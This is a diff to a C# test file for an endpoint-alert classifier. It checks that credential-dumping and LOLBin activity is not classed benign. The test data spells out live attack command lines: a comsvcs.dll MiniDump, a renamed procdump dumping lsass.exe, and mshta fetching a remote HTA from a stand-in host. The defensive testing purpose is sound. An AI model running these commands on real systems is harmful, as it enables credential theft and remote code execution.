@@ -155,4 +155,18 @@ public sealed class EndpointExplanationTests
         var dump = Assess(Backup(@"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 672 C:\Users\Public\d.bin full"));
         Assert.NotEqual(Classification.Benign, dump.Classification);
     }
+
+    [Fact]
+    public void Quoted_and_reordered_attack_commands_are_still_read_a_renamed_procdump_on_lsass_and_mshta_on_a_url()
+    {
+        var dump = Assess(Wazuh("Sigma: Memory Dump", @"GLOBEX\ian.walsh", @"C:\Users\ian.walsh\AppData\Local\Temp\pd.exe",
+            @"pd.exe -accepteula -r -ma lsass.exe C:\Users\ian.walsh\AppData\Local\Temp\ls.dmp", @"C:\Windows\System32\cmd.exe", "cmd.exe"));
+        Assert.Contains(dump.Evidence, e => e.Key == "credential_dumping" && e.Strong);
+        Assert.NotEqual(Classification.Benign, dump.Classification);
+
+        var hta = Assess(Defender("Mshta executed a remote HTA", "hannah.wright", @"C:\Windows\System32\mshta.exe",
+            @"""C:\Windows\System32\mshta.exe"" https://cdn-docs-share.example/view/inv_20931.hta", "explorer.exe", @"C:\Windows\Explorer.EXE"));
+        Assert.Contains(hta.Evidence, e => e.Key == "lolbin");
+        Assert.NotEqual(Classification.Benign, hta.Classification);
+    }
 }
